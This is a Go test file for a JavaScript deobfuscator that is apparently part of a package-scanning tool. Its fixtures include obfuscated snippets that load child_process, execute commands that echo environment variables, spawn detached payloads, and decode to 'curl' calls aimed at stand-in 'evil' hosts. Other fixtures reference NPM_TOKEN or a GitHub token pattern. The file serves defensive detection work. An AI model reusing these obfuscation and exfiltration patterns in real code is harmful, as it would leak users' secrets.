package jsfold

import (
	"bytes"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"
)

const brief = `const r = globalThis['re' + 'quire'];
const cp = r(['chi','ld_pro','cess'].join(''));
const data = globalThis['proc' + 'ess']['e' + 'nv'];
cp['exec' + 'Sync']('echo ' + data);
`

const obfuscated = `const _0x8f31 = _0x2aa1;
(function (_0x41aa, _0x55bb) { const _0x77cc = _0x2aa1; const _0x99dd = _0x41aa();
  while (!![]) { try { const _0x1234 = parseInt(_0x77cc(0x1)); if (_0x1234 === _0x55bb) break; _0x99dd['push'](_0x99dd['shift']()); } catch (_0xabcd) { _0x99dd['push'](_0x99dd['shift']()); } }
})(_0x4e21, 0x1);
function _0x2aa1(_0x1111) { return _0x4e21()[_0x1111]; }
function _0x4e21() { return ['node', '-e', '[payload]', 'unref']; }
const { spawn } = require(_0x8f31(0x4));
spawn(_0x8f31(0x0), [_0x8f31(0x1), _0x8f31(0x2)], { detached: true, stdio: 'ignore' })[_0x8f31(0x3)]();
`

const obfuscatedOffset = `function _0x5c3b(){const _0x1a=['child_process','execSync','curl\x20http://evil'];_0x5c3b=function(){return _0x1a;};return _0x5c3b();}
function _0x2b(_0x3c,_0x4d){const _0x5e=_0x5c3b();return _0x2b=function(_0x6f,_0x70){_0x6f=_0x6f-0x1a2;let _0x81=_0x5e[_0x6f];return _0x81;},_0x2b(_0x3c,_0x4d);}
const _0xq=_0x2b;require(_0xq(0x1a2))[_0xq(0x1a3)](_0xq(0x1a4));
`

type foldCase struct {
	name    string
	src     string
	want    []string // substrings of Code
	notWant []string
	payload string // substring of some Payload text
	via     string
}

var foldCases = []foldCase{
	{name: "brief", src: brief, want: []string{"require('child_process')", "process.env", "cp.execSync(", "'echo ' + globalThis.process.env"}},
	{name: "obfuscator", src: obfuscated, want: []string{"spawn('node', ['-e', '[payload]']", ".unref()", "require(_0x8f31(0x4))"}, payload: "node\n-e\n[payload]\nunref", via: "string-table"},
	{name: "obfuscator offset", src: obfuscatedOffset, want: []string{"require('child_process').execSync('curl http://evil')"}, via: "string-table"},
	{name: "comments", src: "// see https://example.com/licence\nvar a = 1; /* curl\n x */ var b = 2;\n", want: []string{"var a = 1; \n var b = 2;"}, notWant: []string{"https", "curl"}},
	{name: "block comment joins nothing", src: "a/**/b", want: []string{"a b"}},
	{name: "concat lines parens", src: "x = 'a' +\n  ('b' + \"c\") + `d`;\ny = 1;\n", want: []string{"x = 'abcd'\n;\ny = 1;"}},
	{name: "concat stops at tighter op", src: "x = n * 'a' + 'b'; y = 'a' + 'b'.length; z = 'p' + 'q' + v;", want: []string{"n * 'a' + 'b'", "'a' + 'b'.length", "z = 'pq' + v"}},
	{name: "escapes", src: `x = "\x63\x68\u0069\u{6C}d\101"; y = 'it\'s "q"';`, want: []string{`x = 'childA'`, `y = 'it\'s "q"'`}},
	{name: "line continuation", src: "x = 'a\\\nb';\ny;", want: []string{"x = 'ab'\n;\ny;"}},
	{name: "template", src: "x = `a\\x41${b + 'c' + 'd'}e\nf`;\n", want: []string{"x = `aA${b + 'cd'}e\\nf`\n;\n"}},
	{name: "template plain", src: "x = `child_\nprocess`", want: []string{"x = 'child_\\nprocess'\n"}},
	{name: "join sep", src: `x = ["a","b"].join("-"); y = ['ls', '-la'].join(' ');`, want: []string{"x = 'a-b'", "y = 'ls -la'"}},
	{name: "reverse", src: `x = 'ssecorp_dlihc'.split('').reverse().join('');`, want: []string{"x = 'child_process'"}},
	{name: "fromCharCode", src: `x = String.fromCharCode(99, 0x68, 105, 108, 100, 95, 112, 114);`, want: []string{"x = 'child_pr'"}, via: "fromCharCode"},
	{name: "bracket", src: `process['env']['NPM' + '_TOKEN']; a["b-c"]; o['x'+y];`, want: []string{"process.env.NPM_TOKEN", "a['b-c']", "o['x'+y]"}},
	{name: "require concat", src: `require('child'+'_process')`, want: []string{"require('child_process')"}},
	{name: "const prop", src: "const m = 'child_' + 'process';\nrequire(m);\nx = m + 'x';\n", want: []string{"require('child_process')", "x = 'child_processx'"}},
	{name: "const reassigned", src: "let m = 'a';\nm = 'b';\nrequire(m);\n", want: []string{"require(m)"}},
	{name: "const shadowed param", src: "const e = 'a';\nfunction f(e) { return g(e); }\n", want: []string{"return g(e)"}},
	{name: "alias eval", src: "const e = eval;\ne(atob('Y29uc29sZS5sb2coMSk='));\n", want: []string{"eval('console.log(1)')"}, payload: "console.log(1)", via: "base64"},
	{name: "atob", src: `eval(atob('Y29uc29sZS5sb2coMSk='))`, want: []string{"eval('console.log(1)')"}, payload: "console.log(1)", via: "base64"},
	{name: "buffer base64", src: `eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp', 'base64').toString())`, want: []string{`eval('require("child_process")')`}, payload: "require('child_process')"},
	{name: "buffer hex", src: `x = Buffer.from('6375726c', 'hex').toString('utf8')`, want: []string{"x = 'curl'"}, via: "hex"},
	{name: "buffer no toString", src: `x = Buffer.from('6375726c2068747470733a2f2f6576696c', 'hex')`, want: []string{"Buffer.from("}, payload: "curl https://evil"},
	{name: "nested base64", src: `eval(atob('ZXZhbChhdG9iKCJZM1Z5YkNCb2RIUndjem92TDJWMmFXd3VaWGhoYlhCc1pRPT0iKSk='))`, payload: "curl https://evil.example"},
	{name: "standalone base64", src: `var p = 'Y29uc3QgY3AgPSByZXF1aXJlKCJjaGlsZF9wcm9jZXNzIik7IGNwLmV4ZWNTeW5jKCJpZCIpOw==';`, want: []string{"var p = 'Y29uc3Qg"}, payload: "require('child_process')", via: "base64"},
	{name: "long hex", src: `var p = "6375726c202d735820504f535420"+"68747470733a2f2f6578616d706c652e636f6d";`, payload: "curl -sX POST https://example.com", via: "hex"},
	{name: "regex kept", src: `x = /gh[pousr]_[A-Za-z0-9_]{36}/g; y = a / b / c; z = "'"`, want: []string{`/gh[pousr]_[A-Za-z0-9_]{36}/g`, "a / b / c", `z = '\''`}},
	{name: "variation selectors", src: "x = '" + vs("console.log(1)") + "';", payload: "console.log(1)", via: "variation-selectors"},
	{name: "unescape", src: `x = unescape('%63%75%72%6c');`, want: []string{"x = 'curl'"}},
	{name: "hashbang", src: "#!/usr/bin/env node\n// c\nx", want: []string{"#!/usr/bin/env node\n\nx"}},
	{name: "unterminated string", src: "x = 'abc\ny = \"a\" + \"b\";\n", want: []string{"y = 'ab'"}},
	{name: "unterminated template", src: "x = `abc\ny + 'a'", want: []string{"`abc\ny"}},
	{name: "unterminated regex", src: "x = /abc\ny = 'a' + 'b'", want: []string{"y = 'ab'"}},
	{name: "binary junk", src: "\x00\xff\xfe'\x00\n\"\\\n`${\n/*"},
	{name: "computed key", src: "o = {['a'+'b']: 1}", want: []string{"{['ab']: 1}"}},
	{name: "if paren kept", src: "if ('a' + 'b') x()", want: []string{"if ('ab') x()"}},
}

func vs(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		if c < 16 {
			b.WriteRune(0xFE00 + rune(c))
		} else {
			b.WriteRune(0xE0100 + rune(c) - 16)
		}
	}
	return b.String()
}

func checkInvariants(t *testing.T, src []byte, lim Limits, r Result) {
	t.Helper()
	if a, b := bytes.Count(src, []byte{'\n'}), bytes.Count(r.Code, []byte{'\n'}); a != b {
		t.Fatalf("newlines: source %d, code %d\ncode:\n%s", a, b, r.Code)
	}
	maxOut := lim.MaxOutput
	if maxOut <= 0 {
		maxOut = min(4*len(src), maxOutputCeiling)
	}
	maxOut = max(maxOut, len(src))
	n := len(r.Code)
	for _, p := range r.Decoded {
		n += len(p.Text)
	}
	if n > maxOut {
		t.Fatalf("output %d > max %d", n, maxOut)
	}
}

func TestFold(t *testing.T) {
	for _, c := range foldCases {
		t.Run(c.name, func(t *testing.T) {
			r := Fold([]byte(c.src), Limits{})
			checkInvariants(t, []byte(c.src), Limits{}, r)
			for _, w := range c.want {
				if !bytes.Contains(r.Code, []byte(w)) {
					t.Errorf("code lacks %q:\n%s", w, r.Code)
				}
			}
			for _, w := range c.notWant {
				if bytes.Contains(r.Code, []byte(w)) {
					t.Errorf("code has %q:\n%s", w, r.Code)
				}
			}
			if c.payload != "" || c.via != "" {
				found := false
				for _, p := range r.Decoded {
					if bytes.Contains(p.Text, []byte(c.payload)) && (c.via == "" || p.Via == c.via) {
						found = true
					}
				}
				if !found {
					t.Errorf("no payload %q via %q in %+v", c.payload, c.via, r.Decoded)
				}
			}
		})
	}
}

func TestLineNumbers(t *testing.T) {
	src := "a;\nb;\n\n/* x\ny */ eval(atob(\n'Y29uc29sZS5sb2coMSk='));\nz = 'a' +\n'b' +\n'c'; w;\n"
	r := Fold([]byte(src), Limits{})
	lines := strings.Split(string(r.Code), "\n")
	if lines[4] != " eval('console.log(1)'" || lines[5] != ");" || lines[6] != "z = 'abc'" || lines[8] != "; w;" {
		t.Fatalf("lines moved: %q", lines)
	}
	if len(r.Decoded) != 1 || r.Decoded[0].Line != 6 {
		t.Fatalf("payload line: %+v", r.Decoded)
	}
}

func TestStringTableFlags(t *testing.T) {
	r := Fold([]byte(obfuscated), Limits{})
	if !r.StringTable || r.Resolved != 5 {
		t.Fatalf("StringTable %v Resolved %d", r.StringTable, r.Resolved)
	}
	r = Fold([]byte("var a = 'x' + 'y';"), Limits{})
	if r.StringTable || r.Resolved != 0 || r.Folds != 1 {
		t.Fatalf("%+v", r)
	}
}

func TestLimits(t *testing.T) {
	src := []byte(strings.Repeat("x = 'a' + 'b'; // c\n", 1000))
	r := Fold(src, Limits{MaxInput: 1000})
	checkInvariants(t, src, Limits{MaxInput: 1000}, r)
	if !r.Truncated || !bytes.HasPrefix(r.Code, []byte("x = 'ab'; \n")) || !bytes.HasSuffix(r.Code, []byte("x = 'a' + 'b'; // c\n")) {
		t.Fatalf("truncated %v\n%.200s", r.Truncated, r.Code)
	}
	// A table whose strings are long must not blow the output up.
	big := "function T(){return ['" + strings.Repeat("A", 5000) + "','b'];}function A(i){return T()[i];}\n" + strings.Repeat("A(0);", 2000)
	lim := Limits{MaxOutput: 2 * len(big)}
	r = Fold([]byte(big), lim)
	checkInvariants(t, []byte(big), lim, r)
	if !r.Truncated {
		t.Fatal("expected Truncated")
	}
}

func TestNeedsFold(t *testing.T) {
	for _, c := range foldCases {
		switch c.name {
		case "comments", "block comment joins nothing", "hashbang", "regex kept", "binary junk",
			// Documented misses: no trigger bytes, only quoting or a lone constant changes.
			"line continuation", "template plain", "const reassigned", "const shadowed param", "standalone base64":
			continue
		}
		if false {
			continue
		}
		if !NeedsFold([]byte(c.src)) {
			t.Errorf("%s: NeedsFold false", c.name)
		}
	}
	if NeedsFold([]byte("function f(a, b) { return a + b; } // plain\n")) {
		t.Error("NeedsFold true on plain code")
	}
}

func TestStripJSComments(t *testing.T) {
	src := "a = 1; // https://x\n/* b\nc */ d = '//' + /\\/*/;\n"
	got := string(StripJSComments([]byte(src)))
	want := "a = 1; \n\n d = '//' + /\\/*/;\n"
	if got != want {
		t.Fatalf("got %q want %q", got, want)
	}
}

func TestStripComments(t *testing.T) {
	cases := []struct {
		lang      Lang
		src, want string
	}{
		{Shell, "#!/bin/sh\n# curl x\necho ${#a} a#b '#q' \"#q\" # c\n", "#!/bin/sh\n\necho ${#a} a#b '#q' \"#q\" \n"},
		{Python, "x = '#a' # c\ns = '''\n# not\n''' # y\n", "x = '#a' \ns = '''\n# not\n''' \n"},
		{PowerShell, "a # c\n<# b\nc #> d '#x'\n", "a \n\n d '#x'\n"},
		{Batch, "@echo off\r\nREM curl x\r\n:: wget\necho a & rem b\n", "@echo off\r\n\r\n\necho a &\n"},
		{Gyp, "{'a': '#b', # c\n}", "{'a': '#b', \n}"},
	}
	for _, c := range cases {
		got := string(StripComments([]byte(c.src), c.lang))
		if got != c.want {
			t.Errorf("lang %d: got %q want %q", c.lang, got, c.want)
		}
	}
}

func TestLangOf(t *testing.T) {
	cases := map[string]Lang{"a.mjs": JS, "b.TSX": JS, "c.sh": Shell, "d.cmd": Batch, "e.ps1": PowerShell, "f.py": Python, "binding.gyp": Gyp, "g.txt": Unknown}
	for p, want := range cases {
		if got := LangOf(p, nil); got != want {
			t.Errorf("%s: %d want %d", p, got, want)
		}
	}
	if LangOf("bin/x", []byte("#!/usr/bin/env -S node --x\n")) != JS || LangOf("y", []byte("#!/bin/bash\n")) != Shell || LangOf("z", []byte("#!/usr/bin/python3\n")) != Python {
		t.Error("shebang")
	}
}

func FuzzFold(f *testing.F) {
	for _, c := range foldCases {
		f.Add([]byte(c.src), 0)
	}
	f.Add([]byte(brief+obfuscated), 64)
	f.Fuzz(func(t *testing.T, src []byte, maxOut int) {
		lim := Limits{MaxOutput: maxOut % (1 << 16)}
		// Fold must stay linear-ish: a stall is a bug the fuzzer must keep.
		watchdog := time.AfterFunc(10*time.Second, func() { panic(fmt.Sprintf("Fold stalled on %q", src)) })
		defer watchdog.Stop()
		r := Fold(src, lim)
		checkInvariants(t, src, lim, r)
		s := StripJSComments(src)
		if bytes.Count(s, []byte{'\n'}) != bytes.Count(src, []byte{'\n'}) || len(s) > len(src) {
			t.Fatalf("StripJSComments broke lines: %q", s)
		}
	})
}

func FuzzStripComments(f *testing.F) {
	for _, c := range foldCases {
		f.Add([]byte(c.src), uint8(JS))
	}
	f.Add([]byte("#!/bin/sh\n# c\necho '#' \"a\\\"#\" ${#x}\n"), uint8(Shell))
	f.Add([]byte("x = '''a\n#'''\n# c\n"), uint8(Python))
	f.Add([]byte("<# a\n#> '#' # x\n"), uint8(PowerShell))
	f.Add([]byte("REM a\r\n:: b\necho & rem x\n"), uint8(Batch))
	f.Fuzz(func(t *testing.T, src []byte, lang uint8) {
		watchdog := time.AfterFunc(10*time.Second, func() { panic(fmt.Sprintf("StripComments stalled on %q", src)) })
		defer watchdog.Stop()
		out := StripComments(src, Lang(lang%7))
		if bytes.Count(out, []byte{'\n'}) != bytes.Count(src, []byte{'\n'}) || len(out) > len(src) {
			t.Fatalf("lang %d: lines %d -> %d, len %d -> %d", lang%7, bytes.Count(src, []byte{'\n'}), bytes.Count(out, []byte{'\n'}), len(src), len(out))
		}
	})
}

func benchInputs(b *testing.B) map[string][]byte {
	in := map[string][]byte{"synthetic": synthetic(2 << 20)}
	if p := os.Getenv("STAGEGATE_BENCH_JS"); p != "" {
		if src, err := os.ReadFile(p); err == nil {
			in["large"] = src
		}
	}
	return in
}

// synthetic is ordinary-looking code with comments, strings, regexes and a
// sprinkling of foldable expressions.
func synthetic(n int) []byte {
	var b bytes.Buffer
	for i := 0; b.Len() < n; i++ {
		b.WriteString("/**\n * Helper number " + strings.Repeat("x", i%7) + ".\n */\n")
		b.WriteString("function helper_" + strings.Repeat("a", i%5) + "(value, options) {\n")
		b.WriteString("  // normalise the input\n  const re = /^[a-z]+\\/(\\d+)$/i;\n")
		b.WriteString("  if (!re.test(value)) { throw new TypeError(\"bad value: \" + value); }\n")
		b.WriteString("  const parts = value.split('/').map((p) => p.trim()).filter(Boolean);\n")
		b.WriteString("  return { name: parts[0], id: Number(parts[1]) * 2 + options.offset, tag: `t-${parts.length}` };\n}\n")
		if i%50 == 0 {
			b.WriteString("const k = 'child' + '_process'; obj['e' + 'nv'];\n")
		}
	}
	return b.Bytes()
}

func BenchmarkFold(b *testing.B) {
	for name, src := range benchInputs(b) {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(src)))
			for b.Loop() {
				Fold(src, Limits{MaxInput: 1 << 30})
			}
		})
	}
}

func BenchmarkNeedsFold(b *testing.B) {
	for name, src := range benchInputs(b) {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(src)))
			for b.Loop() {
				NeedsFold(src)
			}
		})
	}
}

func BenchmarkStripJSComments(b *testing.B) {
	for name, src := range benchInputs(b) {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(src)))
			for b.Loop() {
				StripJSComments(src)
			}
		})
	}
}
